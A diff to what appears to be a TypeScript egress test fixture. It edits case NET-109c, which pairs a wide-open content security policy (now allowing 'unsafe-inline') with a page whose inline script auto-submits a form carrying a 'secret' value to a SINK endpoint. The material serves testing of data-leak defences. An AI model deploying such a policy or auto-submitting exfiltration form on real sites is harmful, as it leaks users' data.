@@ -26,7 +26,9 @@ export const egressHeaders: Family = {
     {
       id: 'NET-109c',
       technique: 'a content policy that lets it connect to everything',
-      headers: { 'content-security-policy': 'default-src * data: blob:; connect-src *; form-action *' },
+      headers: {
+        'content-security-policy': "default-src * 'unsafe-inline' data: blob:; connect-src *; form-action *",
+      },
       page: '<form id="f" action="SINK/form" method="post"><input name="a" value="secret"></form><script>f.submit()</script>',
     },
     {
